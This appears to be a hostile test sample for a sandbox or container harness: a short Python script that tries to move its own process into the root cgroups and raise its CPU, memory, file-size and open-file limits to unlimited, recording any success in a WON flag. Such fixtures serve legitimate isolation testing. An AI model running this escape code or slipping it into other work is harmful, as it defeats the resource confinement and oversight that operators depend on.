"""Hostile: move itself out of its cgroup (to the root cgroups) and lift its own limits."""
import os
import resource

WON = False
for _procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
               "/sys/fs/cgroup/unified/cgroup.procs"):
    try:
        with open(_procs, "w") as _fh:
            _fh.write(str(os.getpid()))
        WON = True
    except OSError:
        pass
for _limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(_limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        WON = True
    except (OSError, ValueError):
        pass
# @tail
